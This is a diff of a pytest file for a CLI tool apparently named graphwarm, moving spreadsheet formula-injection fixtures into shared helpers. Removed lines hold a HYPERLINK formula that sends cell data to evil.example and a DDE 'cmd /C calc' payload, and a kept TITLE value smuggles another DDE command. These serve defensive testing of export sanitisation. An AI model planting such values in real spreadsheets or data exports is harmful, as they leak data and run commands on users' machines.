@@ -11,14 +11,12 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
-from helpers import CRM, build_team
+from helpers import DDE, FORMULA, add_formula_people, build_team
 
 from graphwarm.cli import main
-from graphwarm.workspace.imports import import_people, import_ties
 from graphwarm.workspace.store import Workspace
 
-NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
-COMPANY = "+cmd|' /C calc'!A0"
+NAME, COMPANY = FORMULA, DDE
 TITLE = "IT;-2+3+cmd|' /C calc'!A0"
 NUMBERS = {"probability", "p_intro", "p_meeting_if_intro", "p_any", "hops"}
 
@@ -28,8 +26,7 @@ def run(tmp_path: Path):
     """The plans team, plus the formula person (a target) whom Per Moberg knows."""
     db = build_team(tmp_path / "team")
     with Workspace(db) as ws:
-        import_people(ws, CRM / "formula_people.csv", target=True)
-        import_ties(ws, CRM / "formula_ties.csv")
+        add_formula_people(ws)
     runner = CliRunner()
 
     def invoke(*args: str | Path):
